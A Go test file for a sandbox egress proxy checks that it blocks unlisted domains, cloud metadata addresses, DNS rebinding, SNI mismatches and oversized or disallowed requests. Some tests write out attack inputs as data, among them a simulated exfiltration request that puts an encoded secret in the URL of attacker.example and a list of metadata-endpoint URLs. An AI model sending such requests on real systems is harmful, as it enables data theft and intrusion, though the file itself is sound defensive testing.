package egress

import (
	"bufio"
	"bytes"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"net/url"
	"os"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/toolgate/toolgate/sandbox/egress/egresstest"
)

// world is a small Internet on loopback: a DNS server, and an HTTP and an
// HTTPS server reached by the name api.test.
type world struct {
	dns    *egresstest.DNSServer
	certs  egresstest.CA
	plain  *upstream
	secure *upstream
	rec    recorder
}

func newWorld(t *testing.T) *world {
	t.Helper()
	w := &world{dns: egresstest.NewDNSServer(t), certs: egresstest.NewCA(t, "api.test", "www.api.test", "rebind.test", "other.test")}
	handler := func(rw http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/big":
			rw.Write(bytes.Repeat([]byte("x"), 1<<20))
		default:
			fmt.Fprintf(rw, "hello from %s %s", r.Method, r.Host)
		}
	}
	w.plain = newUpstream(t, nil, handler)
	w.secure = newUpstream(t, &w.certs, handler)
	w.dns.Set("api.test", "127.0.0.1")
	w.dns.Set("other.test", "127.0.0.1")
	w.dns.Set("www.api.test", "127.0.0.1")
	return w
}

func (w *world) policy(t *testing.T, allow ...string) *Policy {
	return mustPolicy(t, PolicyConfig{Allow: allow, Resolver: w.dns.Resolver(), AllowAddrs: loopback,
		Ports: []int{80, 443, w.plain.port, w.secure.port}, OnDecision: w.rec.add})
}

func (w *world) client(proxyAddr string) *http.Client {
	return &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{
		Proxy:           http.ProxyURL(&url.URL{Scheme: "http", Host: proxyAddr, User: url.UserPassword("agent", "secret")}),
		TLSClientConfig: &tls.Config{RootCAs: w.certs.Pool},
	}}
}

// rawProxy sends one raw request to the proxy and returns the response.
func rawProxy(t *testing.T, addr, req string) (*http.Response, string) {
	t.Helper()
	c, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(10 * time.Second))
	io.WriteString(c, req)
	resp, err := http.ReadResponse(bufio.NewReader(c), nil)
	if err != nil {
		t.Fatalf("reading the proxy's answer to %q: %v", req, err)
	}
	body, _ := io.ReadAll(resp.Body)
	return resp, string(body)
}

func TestProxyPlainHTTP(t *testing.T) {
	w := newWorld(t)
	_, addr := startProxy(t, ProxyConfig{Policy: w.policy(t, "api.test")})
	c := w.client(addr)
	for i := 0; i < 2; i++ { // the second request reuses the client connection
		resp, err := c.Get(fmt.Sprintf("http://API.test.:%d/hello", w.plain.port))
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if want := fmt.Sprintf("hello from GET api.test:%d", w.plain.port); string(body) != want {
			t.Fatalf("body %q, want %q", body, want)
		}
	}
	got := w.plain.last.Load()
	if got.Header.Get("Proxy-Authorization") != "" || got.Header.Get("Proxy-Connection") != "" {
		t.Errorf("proxy headers reached the upstream: %v", got.Header)
	}
	d := w.rec.last(t)
	if !d.Allowed || d.Method != "GET" || d.Host != "api.test" || d.Addr != "127.0.0.1:"+strconv.Itoa(w.plain.port) || d.Rule != "api.test" {
		t.Errorf("decision %+v", d)
	}
	if n := len(w.rec.all()); n != 2 {
		t.Errorf("%d decisions for 2 requests", n)
	}
}

func TestProxyConnect(t *testing.T) {
	w := newWorld(t)
	_, addr := startProxy(t, ProxyConfig{Policy: w.policy(t, "*.api.test")})
	resp, err := w.client(addr).Get(fmt.Sprintf("https://www.api.test:%d/x", w.secure.port))
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if !strings.HasPrefix(string(body), "hello from GET") {
		t.Fatalf("body %q", body)
	}
	d := w.rec.last(t)
	if !d.Allowed || d.Method != "CONNECT" || d.Rule != "*.api.test" || d.Addr != "127.0.0.1:"+strconv.Itoa(w.secure.port) {
		t.Errorf("decision %+v", d)
	}
}

// TestProxyExfiltration: an unlisted domain is refused before any lookup,
// so not even a DNS query carries the data out (NE-001, NE-013).
func TestProxyExfiltration(t *testing.T) {
	w := newWorld(t)
	_, addr := startProxy(t, ProxyConfig{Policy: w.policy(t, "api.test")})
	secret := "c2VjcmV0LWtleQ"
	_, err := w.client(addr).Get("https://" + secret + ".attacker.example/?d=" + secret)
	if err == nil {
		t.Fatal("an HTTPS request to an unlisted domain went through")
	}
	resp, _ := rawProxy(t, addr, "GET http://attacker.example/?d="+secret+" HTTP/1.1\r\nHost: attacker.example\r\n\r\n")
	if resp.StatusCode != http.StatusForbidden || resp.Header.Get("X-Toolgate-Egress") != string(NotListed) {
		t.Errorf("plain request: %s %v", resp.Status, resp.Header)
	}
	// A Host header naming an allowed host does not change the target.
	resp, _ = rawProxy(t, addr, "GET http://attacker.example/ HTTP/1.1\r\nHost: api.test\r\n\r\n")
	if resp.StatusCode != http.StatusForbidden {
		t.Errorf("a lying Host header: %s", resp.Status)
	}
	if n := w.dns.AskedSuffix("attacker.example"); n != 0 {
		t.Errorf("the unlisted domain was looked up %d times", n)
	}
	if w.plain.reqs.Load()+w.secure.reqs.Load() != 0 {
		t.Error("an upstream received a request")
	}
	for _, d := range w.rec.all() {
		if d.Allowed || d.Reason != NotListed {
			t.Errorf("decision %+v", d)
		}
	}
}

func TestProxyMetadata(t *testing.T) {
	w := newWorld(t)
	w.dns.Set("meta.test", "169.254.169.254")
	w.dns.Set("meta6.test", "fd00:ec2::254")
	pol := mustPolicy(t, PolicyConfig{Allow: []string{"meta.test", "meta6.test", "169.254.169.254", "metadata.google.internal"},
		Resolver: w.dns.Resolver(), OnDecision: w.rec.add,
		AllowAddrs: append(loopback, netip.MustParsePrefix("169.254.0.0/16"), netip.MustParsePrefix("fc00::/7"))})
	_, addr := startProxy(t, ProxyConfig{Policy: pol})
	for _, u := range []string{"http://meta.test/latest/meta-data/", "http://meta6.test/", "http://169.254.169.254/",
		"http://[::ffff:169.254.169.254]/", "http://2852039166/", "http://metadata.google.internal/"} {
		resp, body := rawProxy(t, addr, "GET "+u+" HTTP/1.1\r\nHost: x\r\n\r\n")
		if resp.StatusCode != http.StatusForbidden || !strings.Contains(body, "metadata") {
			t.Errorf("%s: %s %q", u, resp.Status, body)
		}
		if d := w.rec.last(t); d.Allowed || d.Reason != MetadataAddress {
			t.Errorf("%s: decision %+v", u, d)
		}
	}
	resp, _ := rawProxy(t, addr, "CONNECT meta.test:443 HTTP/1.1\r\nHost: meta.test:443\r\n\r\n")
	if resp.StatusCode != http.StatusForbidden {
		t.Errorf("CONNECT to metadata: %s", resp.Status)
	}
}

// TestProxyDNSRebinding: the name answers a permitted address, then a
// private one. Each request resolves once and dials the address it checked;
// the later lookup is refused.
func TestProxyDNSRebinding(t *testing.T) {
	w := newWorld(t)
	w.dns.Set("rebind.test", "127.0.0.1", "10.0.0.1", "127.0.0.1", "169.254.169.254")
	_, addr := startProxy(t, ProxyConfig{Policy: w.policy(t, "rebind.test")})
	c := w.client(addr)
	c.Transport.(*http.Transport).DisableKeepAlives = true

	get := func(u string) error {
		resp, err := c.Get(u)
		if err != nil {
			return err
		}
		defer resp.Body.Close()
		io.Copy(io.Discard, resp.Body)
		if resp.StatusCode != 200 {
			return fmt.Errorf("status %s (%s)", resp.Status, resp.Header.Get("X-Toolgate-Egress"))
		}
		return nil
	}
	if err := get(fmt.Sprintf("https://rebind.test:%d/", w.secure.port)); err != nil {
		t.Fatalf("first request: %v", err)
	}
	if n := w.dns.Asked("rebind.test"); n != 1 {
		t.Fatalf("one tunnel made %d lookups; the address checked must be the address dialled", n)
	}
	if err := get(fmt.Sprintf("https://rebind.test:%d/", w.secure.port)); err == nil {
		t.Fatal("the rebound (private) answer was dialled")
	}
	if d := w.rec.last(t); d.Reason != PrivateAddress || d.Addr != "10.0.0.1:"+strconv.Itoa(w.secure.port) {
		t.Errorf("decision %+v", d)
	}
	if err := get(fmt.Sprintf("http://rebind.test:%d/", w.plain.port)); err != nil {
		t.Fatalf("third request: %v", err)
	}
	if err := get(fmt.Sprintf("http://rebind.test:%d/", w.plain.port)); err == nil {
		t.Fatal("the rebound (metadata) answer was dialled")
	}
	if d := w.rec.last(t); d.Reason != MetadataAddress {
		t.Errorf("decision %+v", d)
	}
	if n := w.dns.Asked("rebind.test"); n != 4 {
		t.Errorf("4 requests made %d lookups", n)
	}
	if got := w.secure.reqs.Load() + w.plain.reqs.Load(); got != 2 {
		t.Errorf("the upstreams served %d requests, want 2", got)
	}
}

// connectRaw opens a CONNECT tunnel by hand and returns the connection
// after the proxy's 200.
func connectRaw(t *testing.T, proxyAddr, target string) net.Conn {
	t.Helper()
	c, err := net.Dial("tcp", proxyAddr)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { c.Close() })
	c.SetDeadline(time.Now().Add(10 * time.Second))
	fmt.Fprintf(c, "CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n", target, target)
	br := bufio.NewReader(c)
	resp, err := http.ReadResponse(br, &http.Request{Method: "CONNECT"})
	if err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode != 200 {
		t.Fatalf("CONNECT %s: %s", target, resp.Status)
	}
	if br.Buffered() != 0 {
		t.Fatal("bytes after the CONNECT answer")
	}
	return c
}

func TestProxySNI(t *testing.T) {
	w := newWorld(t)
	_, strict := startProxy(t, ProxyConfig{Policy: w.policy(t, "api.test", "127.0.0.1")})
	_, lax := startProxy(t, ProxyConfig{Policy: w.policy(t, "api.test"), AllowMissingSNI: true})
	target := "api.test:" + strconv.Itoa(w.secure.port)
	tests := []struct {
		name   string
		proxy  string
		target string
		cfg    *tls.Config
		want   Reason
	}{
		{"matching", strict, target, &tls.Config{ServerName: "api.test", RootCAs: w.certs.Pool}, Allowed},
		{"matching in other case", strict, target, &tls.Config{ServerName: "API.TEST", RootCAs: w.certs.Pool}, Allowed},
		{"mismatch", strict, target, &tls.Config{ServerName: "evil.test", InsecureSkipVerify: true}, SNIMismatch},
		{"mismatch, a name the cert covers", strict, target, &tls.Config{ServerName: "other.test", RootCAs: w.certs.Pool}, SNIMismatch},
		{"missing", strict, target, &tls.Config{InsecureSkipVerify: true}, SNIMissing},
		{"missing allowed", lax, target, &tls.Config{InsecureSkipVerify: true}, Allowed},
		{"IP tunnel without a name", strict, "127.0.0.1:" + strconv.Itoa(w.secure.port), &tls.Config{InsecureSkipVerify: true}, Allowed},
		{"IP tunnel naming a host", strict, "127.0.0.1:" + strconv.Itoa(w.secure.port), &tls.Config{ServerName: "api.test", RootCAs: w.certs.Pool}, SNIMismatch},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			before := w.secure.conns.Load()
			c := connectRaw(t, tc.proxy, tc.target)
			tc.cfg.MinVersion = tls.VersionTLS12
			tc.cfg.NextProtos = []string{"http/1.1"}
			tlsConn := tls.Client(c, tc.cfg)
			err := tlsConn.Handshake()
			if tc.want == Allowed {
				if err != nil {
					t.Fatalf("handshake: %v", err)
				}
				fmt.Fprintf(tlsConn, "GET / HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\n\r\n")
				resp, err := http.ReadResponse(bufio.NewReader(tlsConn), nil)
				if err != nil || resp.StatusCode != 200 {
					t.Fatalf("request through the tunnel: %v %v", resp, err)
				}
			} else {
				if err == nil {
					t.Fatal("the handshake succeeded")
				}
				if !strings.Contains(err.Error(), "access denied") {
					t.Errorf("handshake error %v, want a TLS access_denied alert", err)
				}
				if w.secure.conns.Load() != before {
					t.Error("the proxy connected upstream before refusing the server name")
				}
			}
			if d := w.rec.last(t); d.Reason != tc.want || d.Method != "CONNECT" {
				t.Errorf("decision %+v, want %s", d, tc.want)
			}
		})
	}
}

func TestProxyNotTLS(t *testing.T) {
	w := newWorld(t)
	_, addr := startProxy(t, ProxyConfig{Policy: w.policy(t, "api.test")})
	c := connectRaw(t, addr, "api.test:"+strconv.Itoa(w.plain.port))
	io.WriteString(c, "GET / HTTP/1.1\r\nHost: api.test\r\n\r\n")
	got, _ := io.ReadAll(c)
	if !bytes.Equal(got, tlsAlert(alertAccessDenied)) {
		t.Errorf("answer %q, want a TLS alert", got)
	}
	if d := w.rec.last(t); d.Reason != NotTLS {
		t.Errorf("decision %+v", d)
	}
	if w.plain.conns.Load() != 0 {
		t.Error("a plain-text tunnel reached the upstream")
	}
}

func TestProxyGetOnly(t *testing.T) {
	w := newWorld(t)
	_, addr := startProxy(t, ProxyConfig{Policy: w.policy(t, "api.test"), GetOnly: true})
	u := fmt.Sprintf("http://api.test:%d/", w.plain.port)
	tests := []struct {
		req  string
		want int
	}{
		{"GET " + u + " HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\n\r\n", 200},
		{"HEAD " + u + " HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\n\r\n", 200},
		{"POST " + u + " HTTP/1.1\r\nHost: api.test\r\nContent-Length: 3\r\n\r\nabc", 405},
		{"DELETE " + u + " HTTP/1.1\r\nHost: api.test\r\n\r\n", 405},
		{"GET " + u + " HTTP/1.1\r\nHost: api.test\r\nContent-Length: 3\r\n\r\nabc", 405},
		{"GET " + u + " HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\n", 405},
		{"CONNECT api.test:" + strconv.Itoa(w.secure.port) + " HTTP/1.1\r\nHost: api.test\r\n\r\n", 405},
	}
	for _, tc := range tests {
		resp, _ := rawProxy(t, addr, tc.req)
		if resp.StatusCode != tc.want {
			t.Errorf("%q: %s, want %d", tc.req, resp.Status, tc.want)
		}
		if d := w.rec.last(t); (d.Reason == MethodNotAllowed) != (tc.want == 405) {
			t.Errorf("%q: decision %+v", tc.req, d)
		}
	}
	if n := w.plain.reqs.Load(); n != 2 {
		t.Errorf("the upstream served %d requests, want 2", n)
	}
}

func TestProxyBadRequests(t *testing.T) {
	w := newWorld(t)
	_, addr := startProxy(t, ProxyConfig{Policy: w.policy(t, "api.test")})
	for _, req := range []string{
		"GET / HTTP/1.1\r\nHost: api.test\r\n\r\n",                        // origin form: not a proxy request
		"GET https://api.test/ HTTP/1.1\r\nHost: api.test\r\n\r\n",        // https must use CONNECT
		"GET http://user:pw@api.test/ HTTP/1.1\r\nHost: api.test\r\n\r\n", // user information
		"GET ftp://api.test/ HTTP/1.1\r\nHost: api.test\r\n\r\n",          // another scheme
		"CONNECT api.test HTTP/1.1\r\nHost: api.test\r\n\r\n",             // no port
		"CONNECT api.test:0443 HTTP/1.1\r\nHost: api.test\r\n\r\n",        // odd port spelling
		"GET http://api.test:99999/ HTTP/1.1\r\nHost: api.test\r\n\r\n",   // port out of range
		"GARBAGE\r\n\r\n", // not HTTP
		"GET http://api.test/ HTTP/1.1\r\nX: " + strings.Repeat("a", 70<<10) + "\r\n\r\n", // head too large
	} {
		resp, _ := rawProxy(t, addr, req)
		if resp.StatusCode != 400 {
			t.Errorf("%.60q: %s, want 400", req, resp.Status)
		}
	}
	if w.plain.conns.Load()+w.secure.conns.Load() != 0 {
		t.Error("a bad request reached an upstream")
	}
}

func TestProxyByteLimit(t *testing.T) {
	w := newWorld(t)
	_, addr := startProxy(t, ProxyConfig{Policy: w.policy(t, "api.test"), MaxBytes: 64 << 10})
	for _, u := range []string{
		fmt.Sprintf("http://api.test:%d/big", w.plain.port),
		fmt.Sprintf("https://api.test:%d/big", w.secure.port),
	} {
		resp, err := w.client(addr).Get(u)
		if err == nil {
			n, _ := io.Copy(io.Discard, resp.Body)
			resp.Body.Close()
			if n >= 1<<20 {
				t.Errorf("%s: %d bytes went through a 64 KiB limit", u, n)
			}
		}
		if d := w.rec.wait(t, LimitExceeded); !strings.Contains(d.Detail, "byte") {
			t.Errorf("%s: decision %+v", u, d)
		}
	}
}

func TestProxyIdleAndHeadTimeouts(t *testing.T) {
	w := newWorld(t)
	_, addr := startProxy(t, ProxyConfig{Policy: w.policy(t, "api.test"), IdleTimeout: 200 * time.Millisecond, HeadTimeout: 200 * time.Millisecond})
	// A tunnel that falls silent is closed.
	c := connectRaw(t, addr, "api.test:"+strconv.Itoa(w.secure.port))
	tlsConn := tls.Client(c, &tls.Config{ServerName: "api.test", RootCAs: w.certs.Pool})
	if err := tlsConn.Handshake(); err != nil {
		t.Fatal(err)
	}
	if _, err := io.ReadAll(tlsConn); err != nil && !errors.Is(err, io.EOF) && !strings.Contains(err.Error(), "reset") {
		t.Logf("read after idle: %v", err)
	}
	if d := w.rec.wait(t, LimitExceeded); !strings.Contains(d.Detail, "idle") {
		t.Errorf("decision %+v", d)
	}
	// A client that never sends its request is dropped.
	c2, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c2.Close()
	c2.SetDeadline(time.Now().Add(10 * time.Second))
	if n, err := c2.Read(make([]byte, 1)); n != 0 || err == nil || errors.Is(err, os.ErrDeadlineExceeded) {
		t.Errorf("silent client: read %d, %v; want the proxy to close", n, err)
	}
}

func TestProxyMaxConns(t *testing.T) {
	w := newWorld(t)
	_, addr := startProxy(t, ProxyConfig{Policy: w.policy(t, "api.test"), MaxConns: 1})
	// The first client holds its connection open (keep-alive).
	c1, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c1.Close()
	fmt.Fprintf(c1, "GET http://api.test:%d/ HTTP/1.1\r\nHost: api.test\r\n\r\n", w.plain.port)
	br := bufio.NewReader(c1)
	resp, err := http.ReadResponse(br, nil)
	if err != nil || resp.StatusCode != 200 {
		t.Fatalf("first client: %v %v", resp, err)
	}
	io.Copy(io.Discard, resp.Body)
	resp2, _ := rawProxy(t, addr, "GET http://api.test/ HTTP/1.1\r\nHost: api.test\r\n\r\n")
	if resp2.StatusCode != http.StatusServiceUnavailable {
		t.Errorf("second client: %s", resp2.Status)
	}
	if d := w.rec.last(t); d.Reason != TooManyConns {
		t.Errorf("decision %+v", d)
	}
}

func TestProxyClose(t *testing.T) {
	w := newWorld(t)
	p, err := NewProxy(ProxyConfig{Policy: w.policy(t, "api.test")})
	if err != nil {
		t.Fatal(err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	served := make(chan error, 1)
	go func() { served <- p.Serve(ln) }()
	c := connectRaw(t, ln.Addr().String(), "api.test:"+strconv.Itoa(w.secure.port))
	tlsConn := tls.Client(c, &tls.Config{ServerName: "api.test", RootCAs: w.certs.Pool})
	if err := tlsConn.Handshake(); err != nil {
		t.Fatal(err)
	}
	p.Close()
	if err := <-served; !errors.Is(err, net.ErrClosed) {
		t.Errorf("Serve returned %v", err)
	}
	if _, err := tlsConn.Read(make([]byte, 1)); err == nil {
		t.Error("the tunnel outlived Close")
	}
}

func TestProxyForwardsBodies(t *testing.T) {
	w := newWorld(t)
	_, addr := startProxy(t, ProxyConfig{Policy: w.policy(t, "api.test")})
	u := fmt.Sprintf("http://api.test:%d/post", w.plain.port)
	resp, body := rawProxy(t, addr, "POST "+u+" HTTP/1.1\r\nHost: api.test\r\nContent-Length: 5\r\nConnection: close, X-Hop\r\nX-Hop: 1\r\n\r\nhello")
	if resp.StatusCode != 200 || !strings.HasPrefix(body, "hello from POST api.test:") {
		t.Fatalf("%s %q", resp.Status, body)
	}
	if got := w.plain.last.Load(); got.Header.Get("X-Hop") != "" || got.ContentLength != 5 {
		t.Errorf("upstream saw %v (length %d)", got.Header, got.ContentLength)
	}
}

func BenchmarkCheckHost(b *testing.B) {
	p := mustPolicy(b, PolicyConfig{Allow: []string{"pkgs.example.org", "files.example.org", "*.github.com", "*.example.com"}})
	for b.Loop() {
		if _, _, err := p.CheckHost("Objects.GitHubUserContent.example.com.", 443); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkProxyConnect measures a whole tunnel through the proxy: CONNECT,
// lookup on the loopback DNS server, ClientHello check, dial, TLS handshake
// and one request.
func BenchmarkProxyConnect(b *testing.B) {
	dns := egresstest.NewDNSServer(b)
	dns.Set("api.test", "127.0.0.1")
	ca := egresstest.NewCA(b, "api.test")
	up := newUpstream(b, &ca, func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, "ok") })
	pol := mustPolicy(b, PolicyConfig{Allow: []string{"api.test"}, Resolver: dns.Resolver(), AllowAddrs: loopback, Ports: []int{up.port}})
	_, addr := startProxy(b, ProxyConfig{Policy: pol})
	c := &http.Client{Transport: &http.Transport{Proxy: http.ProxyURL(&url.URL{Scheme: "http", Host: addr}),
		TLSClientConfig: &tls.Config{RootCAs: ca.Pool}, DisableKeepAlives: true}}
	u := fmt.Sprintf("https://api.test:%d/", up.port)
	for b.Loop() {
		resp, err := c.Get(u)
		if err != nil {
			b.Fatal(err)
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
	}
}
